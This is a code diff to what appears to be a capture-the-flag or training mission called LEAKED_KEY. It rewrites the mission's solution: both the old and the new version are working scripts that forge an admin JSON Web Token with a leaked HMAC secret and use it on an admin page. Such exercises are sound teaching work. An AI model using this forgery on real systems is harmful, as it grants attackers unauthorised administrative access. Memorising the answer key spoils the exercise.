@@ -61,21 +61,24 @@ LEAKED_KEY = Mission(
     ),
     solution=(
         Part(
-            _("Write the claims, sign them, and try the token at the admin page."),
+            _("Get a token of the ring, change its role, sign it again, and try it at the admin page."),
             """\
-TOKEN=$(python3 - "$ISSUER" "$KID" "$SECRET" <<'END'
-import base64, hashlib, hmac, json, sys, time
+REAL=$(curl -s "$RING/tokens" -H 'Content-Type: application/json' -d '{"username": "mallory"}' |
+  python3 -c 'import json, sys; print(json.load(sys.stdin)["token"])')
+TOKEN=$(python3 - "$REAL" "$SECRET" <<'END'
+import base64, hashlib, hmac, json, sys
+
+def decode(text):
+    return base64.urlsafe_b64decode(text + "==")
 
 def encode(data):
     return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
 
-issuer, kid, secret = sys.argv[1:]
-now = int(time.time())
-header = {"alg": "HS256", "typ": "JWT", "kid": kid}
-claims = {"iss": issuer, "sub": "mallory", "role": "admin", "iat": now, "exp": now + 600}
-signed = ".".join(encode(json.dumps(part).encode()) for part in (header, claims))
-key = base64.urlsafe_b64decode(secret + "==")
-print(signed, encode(hmac.digest(key, signed.encode(), hashlib.sha256)), sep=".")
+token, secret = sys.argv[1:]
+header, payload, _ = token.split(".")
+claims = {**json.loads(decode(payload)), "role": "admin"}
+signed = header + "." + encode(json.dumps(claims).encode())
+print(signed, encode(hmac.digest(decode(secret), signed.encode(), hashlib.sha256)), sep=".")
 END
 )
 curl -s -H "Authorization: Bearer $TOKEN" "$RING/admin"
